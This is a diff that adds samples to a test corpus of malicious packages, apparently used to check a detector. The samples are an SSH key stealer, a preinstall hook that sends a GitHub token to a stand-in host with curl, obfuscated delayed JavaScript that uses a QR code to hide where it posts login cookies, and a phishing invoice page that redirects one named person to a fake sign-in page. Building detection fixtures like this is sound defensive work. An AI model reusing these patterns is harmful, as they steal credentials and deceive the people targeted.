@@ -75,4 +75,14 @@ export const THEFTS: readonly Sample[] = [
   packaged('keys of SSH, in Python', {}, {
     'main.py': `import os\nimport urllib.request\n\npath = os.path.expanduser("~/.ssh/id_ed25519")\nwith open(path) as file:\n    urllib.request.urlopen("https://k.example.invalid/s", data=file.read().encode())\n`,
   }),
+  packaged('what a tool says who is logged in, by one command', { preinstall: 'curl -s -d "$(gh auth token)" https://59f8c0d2.bin.example/?t=gh' }, {
+    'index.js': 'exports.length = (ops) => ops.reduce((sum, each) => sum + each.insert.length, 0);\n',
+  }),
+  packaged('a password in a cookie, to where a picture says', {}, {
+    'index.js': `const back = (text) => text.split('').reverse().join('');\nasync function read(address) {\n  const picture = new Image();\n  picture.src = address;\n  await picture.decode();\n  return (await new BarcodeDetector({ formats: ['qr_code'] }).detect(picture))[0]?.rawValue;\n}\nsetTimeout(async () => {\n  const to = JSON.parse(await read(back('gpj.q/daolpu/elpmaxe.egami//:sptth')));\n  const cookie = (name) => document.cookie.match(new RegExp('(?:^|; )' + name + '=([^;]*)'))?.[1];\n  const request = new XMLHttpRequest();\n  request.open('POST', to.u);\n  request.send(JSON.stringify({ [to.n]: cookie(back('emanresu')), [to.p]: cookie(back('drowssap')) }));\n}, 120000);\nmodule.exports = { read };\n`,
+  }),
+  packaged('a page for one person', {}, {
+    'go.js': `function label(text) {\n  document.getElementById('state').textContent = text;\n}\nfunction verify() {\n  const mail = 'j.mueller@anlagen.example';\n  label('Verifying access');\n  window.location.replace('https://login.sign-in.example/uQXv/#' + mail);\n}\nverify();\n`,
+    'invoice.html': '<title>Order 4500219874.pdf</title>\n<p id="state">Opening</p>\n<script src="go.js"></script>\n',
+  }),
 ];
